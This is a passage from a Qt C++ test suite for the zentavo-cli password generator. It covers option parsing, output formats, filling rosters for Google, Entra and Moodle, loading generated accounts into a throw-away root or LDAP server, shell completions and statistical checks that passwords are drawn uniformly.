        QTest::addRow("help") << QStringList{"-n", "5", "-h"}
                              << "Usage: zentavo-cli [OPTION]... [LENGTH [COUNT]]";
    }
    void answersWithoutGenerating()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, firstLine);
        SeededRandom unused(1);
        const Outcome outcome = run(arguments);
        QCOMPARE(outcome.status, 0);
        QCOMPARE(lines(outcome.output).value(0), firstLine);
        QCOMPARE(outcome.error, QString());
    }

    // Draw by draw: what each position is drawn from, and what it makes.
    void symbolsAndLookAlikes_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QList<uint>>("draws");
        QTest::addColumn<QList<uint>>("poolSizes");
        QTest::addColumn<QString>("password");
        const QStringList onlyOwn{"--no-lower", "--no-upper", "--no-digits", "--no-at-least"};
        QTest::addRow("symbols") << onlyOwn + QStringList{"--symbols", "3", "1"} << QList<uint>{0, 1, 26}
                                 << QList<uint>{27, 27, 27} << "!#~";
        // Without 0 and 1 the digits are 2 to 9.
        QTest::addRow("digits, no look-alikes")
            << QStringList{"--no-lower", "--no-upper", "--no-at-least", "--no-similar", "3", "1"}
            << QList<uint>{0, 1, 7} << QList<uint>{8, 8, 8} << "239";
        // Groups of 25 (no l), 24 (no O, I), 8 and the own "x"; the pool of
        // 58; the last digit of 8.
        QTest::addRow("at least, no look-alikes, last digit")
            << QStringList{"--no-similar", "--chars", "|x", "--last-digit", "6", "1"}
            << QList<uint>{11, 8, 0, 0, 57, 3, 7} << QList<uint>{25, 24, 8, 1, 58, 58, 8} << "mJ2xx9";
        QTest::addRow("symbols, no look-alikes: no bar")
            << onlyOwn + QStringList{"--symbols", "--no-similar", "2", "1"} << QList<uint>{24, 25}
            << QList<uint>{26, 26} << "}~";
        // Each word, then the gap after the second word, then the digit.
        QTest::addRow("passphrase") << QStringList{"--words",      "3",
                                                   "--capitalize", "--digit",
                                                   "-n",           "1",
                                                   "--wordlist",   namesFile("three", "sun\nmoon\nstar\n")}
                                    << QList<uint>{2, 0, 1, 1, 7} << QList<uint>{3, 3, 3, 2, 10}
                                    << "Star-Sun-7-Moon";
        QTest::addRow("a first digit")
            << QStringList{"--no-upper", "--no-at-least", "--start-with", "digit", "3", "1"}
            << QList<uint>{3, 0, 35} << QList<uint>{10, 36, 36} << "3a9";
        QTest::addRow("no repeats")
            << QStringList{"--no-lower", "--no-upper", "--no-at-least", "--no-repeat", "--no-similar",
                           "3",          "1"}
            << QList<uint>{0, 0, 0} << QList<uint>{8, 7, 7} << "232";
        // The space's place first; the character after it draws from all.
        QTest::addRow("no repeats, space")
            << onlyOwn + QStringList{"--chars", "ab", "--no-repeat", "--space", "4", "1"}
            << QList<uint>{1, 0, 0, 0} << QList<uint>{4, 2, 2, 1} << "a ab";
        QTest::addRow("excluded") << onlyOwn + QStringList{"--symbols", "--exclude", "!#$", "2", "1"}
                                  << QList<uint>{0, 23} << QList<uint>{24, 24} << "%~";
    }
    void symbolsAndLookAlikes()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QList<uint>, draws);
        QFETCH(QList<uint>, poolSizes);
        QFETCH(QString, password);
        ScriptedRandom random;
        random.positions.assign(draws.begin(), draws.end());
        const Outcome outcome = run(arguments, random);
        QCOMPARE(outcome.error, QString());
        QCOMPARE(lines(outcome.output), QStringList{password});
        QCOMPARE(random.poolSizes, poolSizes);
    }

    // pwgen's plain [LENGTH [COUNT]]; options win wherever they stand.
    void readsTheCommandLineAsPeersDo_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("rows");
        QTest::addColumn<int>("length");
        QTest::addRow("length and count") << QStringList{"12", "3"} << 3 << 12;
        QTest::addRow("- is standard output") << QStringList{"-n", "2", "-o", "-"} << 2 << 16;
        QTest::addRow("-- ends the options") << QStringList{"-n", "4", "--", "8"} << 4 << 8;
        QTest::addRow("options win") << QStringList{"8", "3", "-n", "1", "--length=20"} << 1 << 20;
        QTest::addRow("a negation takes no value")
            << QStringList{"--chars", "x", "--no-chars", "-n", "2"} << 2 << 16;
    }
    void readsTheCommandLineAsPeersDo()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, rows);
        QFETCH(int, length);
        const Outcome outcome = run(arguments);
        QCOMPARE(outcome.status, 0);
        const QStringList made = lines(outcome.output);
        QCOMPARE(made.size(), rows);
        QVERIFY(std::all_of(made.begin(), made.end(), [&](const QString &p) { return p.size() == length; }));
        QVERIFY(QDir(folder.path()).isEmpty());
    }

    void helpFitsTheWidth_data()
    {
        QTest::addColumn<int>("width");
        for (const int width : {60, 80, 120})
            QTest::addRow("%d columns", width) << width;
    }
    void helpFitsTheWidth()
    {
        QFETCH(int, width);
        const QStringList help = cli::helpText(width).split(u'\n');
        qsizetype widest = 0;
        for (const QString &line : help)
            widest = std::max(widest, line.size());
        QVERIFY2(widest <= width && widest > width - 12, qPrintable(QString::number(widest)));
        if (width == 80) // not a terminal: 80 columns
            QCOMPARE(run({"--help"}).output, cli::helpText(width).toUtf8());
    }

    // Each name gets the password a plain run of as many makes, in the
    // file's order.
    void accountsGetOnePasswordEach_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addColumn<QStringList>("more");
        for (const char *format : {"plain", "csv", "text", "xlsx"})
            QTest::addRow("%s", format) << format << QStringList();
        // The hashes' column makes the rows wait for the widths.
        QTest::addRow("text, hashed") << "text" << QStringList{"--crypt=sha512"};
    }
    void accountsGetOnePasswordEach()
    {
        QFETCH(QString, format);
        QFETCH(QStringList, more);
        const QStringList names{"anna", QString::fromUtf8("cl\xc3\xa1ra"), "bert"};
        const QString file =
            namesFile("class", "\xEF\xBB\xBF# class 4b\r\n\r\n  anna \r\ncl\xc3\xa1ra\n\nbert");
        const QStringList passwords = lines(run({"-n", "3", "--space", "--chars", ",\""}, 5).output);
        const QStringList arguments =
            QStringList{"--accounts", file, "--format", format, "--space", "--chars", ",\""} + more;
        QList<QStringList> expected{{"Name", "Result(s)"}}, made;
        for (int i = 0; i < 3; ++i)
            expected << QStringList{names[i], passwords[i]};
        if (format == QLatin1String("xlsx")) {
            const QString path = folder.filePath(QStringLiteral("class.xlsx"));
            QCOMPARE(run(arguments + QStringList{"-o", path}, 5).status, 0);
            QTemporaryDir profile;
            expected[0] = QStringList{"Results", ""};
            made = readWorkbook(path, profile.path());
        } else {
            const Outcome outcome = run(arguments, 5);
            QCOMPARE(outcome.status, 0);
            if (format == QLatin1String("csv"))
                made = parseCsv(QString::fromUtf8(outcome.output));
            if (format == QLatin1String("plain"))
                expected.removeFirst();
            // text: padded cells, each followed by a TAB, lines of one length
            for (const QString &line :
                 lines(outcome.output, format == QLatin1String("text") ? "\r\n" : "\n")) {
                if (format == QLatin1String("plain"))
                    made << QStringList{line.section(u':', 0, 0), line.section(u':', 1)};
                if (format == QLatin1String("text")) {
                    QCOMPARE(line.size(), lines(outcome.output, "\r\n").value(0).size());
                    made << QStringList{line.section(u'\t', 0, 0).trimmed(),
                                        line.section(u'\t', 1, 1).left(expected[made.size()][1].size())};
                }
            }
        }
        QCOMPARE(made, expected);
    }

    // Each platform's published header with three rows, a name outside
    // ASCII and a cell with a comma and a quote among them, read back by
    // Python's csv module: only the passwords (and hashes) are new.
    void rostersRoundTrip_data()
    {
        QTest::addColumn<QString>("platform");
        QTest::addColumn<QByteArray>("roster");
        QTest::addColumn<QStringList>("more");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("rule"); // delimiter, shortest, kinds
        QTest::addRow("google")
            << "google"
            << QByteArray("\xEF\xBB\xBF"
                          "First Name [Required],Last Name [Required],Email Address "
                          "[Required],Password [Required],Password Hash Function [UPLOAD "
                          "ONLY],Org Unit Path [Required],New Primary Email [UPLOAD ONLY],"
                          "Recovery Email,Home Secondary Email,Work Secondary Email,"
                          "Recovery Phone [MUST BE IN THE E.164 FORMAT],Work Phone,Home "
                          "Phone,Mobile Phone,Work Address,Home Address,Employee ID,"
                          "Employee Type,Employee Title,Manager Email,Department,Cost "
                          "Center,Building ID,Floor Name,Floor Section,Change Password at "
                          "Next Sign-In,New Status [UPLOAD ONLY],Advanced Protection "
                          "Program enrollment\r\n"
                          "Cl\xC3\xA1ra,Berg,cl\xC3\xA1ra@example.org,,,/,,,,,,,,,,,,,,,,,,,,"
                          "TRUE,,\r\n"
                          "Sean,\"O\"\"Neil, jr\",sean@example.org,,,/Staff,,,,,,,,,,\"1 Main "
                          "St,\r\nDublin\",,,,,,,,,,,,\r\n\r\n"
                          "Kim,Park,kim@example.org,****,,/\r\nBert,Lee,bert@example.org,,,/\r\n")
            << QStringList{"-l", "8"} << "Password [Required]"
            << ",|8|1";
        QTest::addRow("entra")
            << "entra"
            << QByteArray("version:v1.0\nName [displayName] Required,User name "
                          "[userPrincipalName] Required,Initial password [passwordProfile] "
                          "Required,Block sign in (Yes/No) [accountEnabled] Required,First "
                          "name [givenName],Last name [surname],Job title [jobTitle],"
                          "Department [department],Usage location [usageLocation],Street "
                          "address [streetAddress],State or province [state],Country or "
                          "region [country],Office [physicalDeliveryOfficeName],City [city],"
                          "ZIP or postal code [postalCode],Office phone [telephoneNumber],"
                          "Mobile phone [mobile]\nExample: Chris Green,chris@example.org,myPassword1234,No\n"
                          "J\xC3\xBCrgen Wei\xC3\x9F,juergen@example.org,,No,J\xC3\xBCrgen\n"
                          "\"O\"\"Neil, Sean\",sean@example.org,,No\n"
                          "Anna Berg,anna@example.org,,Yes,Anna,Berg,,,,,,,,,,,")
            << QStringList{"--crypt=sha512"} << "Initial password [passwordProfile] Required"
            << ",|8|3";
        QTest::addRow("moodle") << "moodle"
                                << QByteArray("username;password;firstname;lastname;email\n"
                                              "zo\xC3\xAB;;Zo\xC3\xAB;Adams;zoe@example.org\n"
                                              "sean;;Sean;\"O\"\"Neil; jr\";sean@example.org\n"
                                              "bert;;Bert;Lee;bert@example.org\n")
                                << QStringList{"--words", "3", "--separator", ";"} << "password"
                                << ";|1|0";
    }
    void rostersRoundTrip()
    {
        QFETCH(QString, platform);
        QFETCH(QByteArray, roster);
        QFETCH(QStringList, more);
        QFETCH(QString, column);
        QFETCH(QString, rule);
        const QString input = namesFile(platform + ".csv", roster);
        const QString output = folder.filePath(QStringLiteral("filled.csv"));
        const Outcome outcome =
            run(QStringList{"--roster", input, "--roster-for", platform, "-o", output} + more);
        QVERIFY2(outcome.status == 0, qPrintable(outcome.error));
        QProcess python;
        python.start("python3",
                     QStringList{"-W", "ignore", QStringLiteral(ZENTAVO_TESTS "/support/roster_roundtrip.py"),
                                 input, output, column} +
                         rule.split(u'|'));
        QVERIFY(python.waitForFinished(60000));
        QCOMPARE(python.readAllStandardError(), QByteArray());
        QCOMPARE(python.readAllStandardOutput(), QByteArray("3\n"));
    }

    // chpasswd -e and newusers in a throw-away root, a throw-away slapd: each account takes
    // the password handed out, as the README cuts it from the file, and (slapd) no other.
    void theSystemsTakeTheAccounts_data()
    {
        QTest::addColumn<QString>("arguments");
        QTest::addColumn<QString>("load");  // hands $1/made to the system
        QTest::addColumn<QString>("check"); // succeeds when $name has $password
        const QString root = "sh \"$3/throwaway-root.sh\" \"$1\"\n";
        const QString chpasswd = root +
                                 "for n in zt_anna zt_bert zt_cl\xc3\xa1ra; do useradd -R \"$1\" $n; done\n"
                                 "cut -d: -f1,3 \"$1/made\" | chpasswd -e -R \"$1\"";
        const char *stored = "s=$(grep \"^$name:\" \"$1/etc/shadow\" | cut -d: -f2); "
                             "[ \"$(mkpasswd \"$password\" \"$s\")\" = \"$s\" ]";
        const char *slapd =
            ". \"$3/slapd.sh\"; PATH=$PATH:/usr/sbin; start_slapd \"$1/ldap\"\n"
            "trap 'stop_slapd \"$1/ldap\"' EXIT\n"
            "ldapadd -x -H \"$ldap_uri\" -D cn=admin,dc=example,dc=org -w secret -f \"$1/made\" >/dev/null";
        const char *bind =
            "w() { ldapwhoami -x -H \"$ldap_uri\" -D \"uid=$name,ou=people,dc=example,dc=org\" -w \"$1\""
            " >/dev/null 2>&1; }; w \"$password\" && ! w \"$password.\"";
        const char *ldif = " --format=ldif --base-dn=ou=people,dc=example,dc=org";
        for (const char *hash : {"--crypt", "--crypt=sha512"}) {
            QTest::addRow("chpasswd, %s", hash) << hash << chpasswd << stored;
            QTest::addRow("ldif, %s", hash) << hash + QString(ldif) << slapd << bind;
        }
        QTest::addRow("newusers") << "--format=newusers" << root + "newusers --root \"$1\" < \"$1/made\""
                                  << stored;
    }
    void theSystemsTakeTheAccounts()
    {
        QFETCH(QString, arguments);
        QFETCH(QString, load);
        QFETCH(QString, check);
        const bool ldif = arguments.contains("ldif");
        if (ldif ? !QFile::exists("/usr/sbin/slapd")
                 : ::geteuid() != 0 || QStandardPaths::findExecutable("mkpasswd").isEmpty())
            QSKIP(ldif ? "needs slapd and ldap-utils" : "needs root and mkpasswd (whois)");
        QTemporaryDir dir;
        QProcess shell;
        shell.start("sh",
                    {"-ec",
                     "printf 'zt_anna\\nzt_bert\\nzt_cl\\303\\241ra\\n' | \"$0\" --accounts - $2 --space -o "
                     "\"$1/made\"\n" +
                         load +
                         "\ncase $2 in *ldif*) sed -n 's/^# //p' ;; *) cut -d: -f1,2 ;; esac <\"$1/made\" |"
                         " while IFS=: read -r name password; do\n" +
                         check + " && echo \"$name\"\ndone",
                     ZENTAVO_CLI, dir.path(), arguments, ZENTAVO_TEST_SUPPORT});
        QVERIFY(shell.waitForFinished(120000));
        QCOMPARE(shell.readAllStandardError(), QByteArray());
        QCOMPARE(lines(shell.readAllStandardOutput()),
                 (QStringList{"zt_anna", "zt_bert", QString::fromUtf8("zt_cl\xc3\xa1ra")}));
    }

    // The completions know what --help knows.
    void shellsCompleteTheOptions_data()
    {
        QTest::addColumn<QString>("shell");
        QTest::addColumn<QString>("line");         // what is typed so far
        QTest::addColumn<QStringList>("expected"); // empty: every option --help names
        QTest::addRow("bash, an option") << "bash"
                                         << "zentavo-cli --form" << QStringList{"--format"};
        QTest::addRow("bash, a format")
            << "bash"
            << "zentavo-cli --format ''"
            << QStringList{"plain", "text", "csv", "xlsx", "slips", "newusers", "ldif"};
        QTest::addRow("bash, a hash") << "bash"
                                      << "zentavo-cli --crypt = s" << QStringList{"sha512"};
        QTest::addRow("bash, every option") << "bash"
                                            << "zentavo-cli --" << QStringList{};
        QTest::addRow("fish, a format")
            << "fish"
            << "zentavo-cli --format "
            << QStringList{"plain", "text", "csv", "xlsx", "slips", "newusers", "ldif"};
        QTest::addRow("fish, every option") << "fish"
                                            << "zentavo-cli --" << QStringList{};
        QTest::addRow("fish, a format described")
            << "fish"
            << "zentavo-cli --format c" << QStringList{"csv\tCSV with a title row"};
        QTest::addRow("fish, an option switched off")
            << "fish"
            << "zentavo-cli --no-sp" << QStringList{"--no-space\tNo space character"};
        QTest::addRow("zsh, found by compinit") << "zsh"
                                                << "" << QStringList{"_zentavo-cli"};
    }
    void shellsCompleteTheOptions()
    {
        QFETCH(QString, shell);
        QFETCH(QString, line);
        QFETCH(QStringList, expected);
        if (QStandardPaths::findExecutable(shell).isEmpty())
            QSKIP("shell not installed");
        QTemporaryDir dir;
        const QString script = dir.filePath(shell == QLatin1String("zsh") ? "_zentavo-cli" : "completion");
        QProcess::execute("sh", {"-c", "\"$0\" --completion \"$1\" > \"$2\"", ZENTAVO_CLI, shell, script});
        const QString command =
            shell == QLatin1String("bash")
                ? QStringLiteral(
                      "source \"$1\" && complete -p zentavo-cli >/dev/null && COMP_WORDS=(%1); "
                      "COMP_CWORD=$((${#COMP_WORDS[@]}-1)); _zentavo_cli; printf '%s\\n' \"${COMPREPLY[@]}\"")
                      .arg(line)
            : shell == QLatin1String("fish")
                ? QStringLiteral("source $argv[1]; complete -C '%1'").arg(line)
                : QStringLiteral("fpath=(${1:h} $fpath); autoload -Uz compinit; compinit -u -d ${1:h}/dump; "
                                 "print $_comps[zentavo-cli]");
        QProcess process;
        process.start(shell, {"-c", command, shell == QLatin1String("fish") ? script : "sh", script});
        QVERIFY(process.waitForFinished(60000));
        QStringList made = lines(process.readAllStandardOutput());
        // What each completion does is compared where the row gives it.
        if (!expected.join(QString()).contains(u'\t'))
            std::for_each(made.begin(), made.end(), [](QString &word) { word = word.section(u'\t', 0, 0); });
        if (expected.isEmpty()) {
            const auto all = QRegularExpression("--[a-z-]+").globalMatch(cli::helpText());
            for (const auto &match : all)
                if (!expected.contains(match.captured()))
                    expected << match.captured();
        }
        made.sort();
        expected.sort();
        QCOMPARE(made, expected);
    }

    // The real program: linked without the desktop libraries, and a reader
    // that stops early ends it quietly.
    // A million passwords under a rule: every password it allows, and each
    // as often as any other. The chi-square thresholds let a fair draw
    // through but for about one run in a million.
    void rulesKeepEveryAllowedPasswordEquallyLikely_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("allowed");
        QTest::addColumn<int>("outcomes");
        QTest::addColumn<double>("threshold");
        const QStringList own{"--no-lower", "--no-upper", "--no-digits", "--no-at-least", "-n", "1000000"};
        QTest::addRow("no repeats") << own + QStringList{"--chars", "abc", "--no-repeat", "-l", "3"}
                                    << "^(?!.*(.)\\1)[abc]{3}$" << 12 << 50.0;
        QTest::addRow("a first digit")
            << own + QStringList{"--chars", "a1b2", "--start-with", "digit", "-l", "2"} << "^[12][a1b2]$" << 8
            << 41.0;
    }
    void rulesKeepEveryAllowedPasswordEquallyLikely()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, allowed);
        QFETCH(int, outcomes);
        QFETCH(double, threshold);
        CryptoRandomSource random;
        const Outcome outcome = run(arguments, random);
        std::map<QString, int> seen;
        for (const QString &password : lines(outcome.output))
            ++seen[password];
        QCOMPARE(int(seen.size()), outcomes);
        const double expected = 1e6 / outcomes;
        double chiSquare = 0;
        for (const auto &[password, times] : seen) {
            QVERIFY2(QRegularExpression(allowed).match(password).hasMatch(), qPrintable(password));
            chiSquare += (times - expected) * (times - expected) / expected;
        }
        QVERIFY2(chiSquare < threshold, qPrintable(QString::number(chiSquare)));
    }

    // The shipped list is the EFF long list as Debian's diceware has it.
    void theShippedWordsAreTheEffLongList()
    {
        QFile diceware(
            QStringLiteral("/usr/lib/python3/dist-packages/diceware/wordlists/wordlist_en_eff.txt"));
        QVERIFY2(diceware.open(QIODevice::ReadOnly), "the diceware package is missing");
        QStringList words;
        for (const QString &line : lines(diceware.readAll()))
            words << line.section(u'\t', 1);
        QCOMPARE(effLongList().words, words);
        QCOMPARE(words.size(), 7776);
    }

    void theProgramNeedsNoDesktopAndStopsWithItsReader()
    {
        QProcess readelf;
        readelf.start(QStringLiteral("readelf"), {QStringLiteral("-d"), QStringLiteral(ZENTAVO_CLI)});
        QVERIFY(readelf.waitForFinished());
        const QString dynamic = QString::fromUtf8(readelf.readAllStandardOutput());
        QVERIFY(dynamic.contains(QStringLiteral("libQt6Core")));
        QVERIFY(!dynamic.contains(QStringLiteral("libQt6Gui")) &&
                !dynamic.contains(QStringLiteral("libQt6Widgets")));

        QProcess shell;
        shell.start(QStringLiteral("sh"),
                    {QStringLiteral("-c"), QStringLiteral("\"$0\" -n 10000000 | head -n 3; echo $?"),
                     QStringLiteral(ZENTAVO_CLI)});
        QVERIFY(shell.waitForFinished(60000));
        QCOMPARE(lines(shell.readAllStandardOutput()).size(), 4);
        QCOMPARE(shell.readAllStandardError(), QByteArray());
    }
};

QTEST_GUILESS_MAIN(TestCli)
#include "tst_cli.moc"
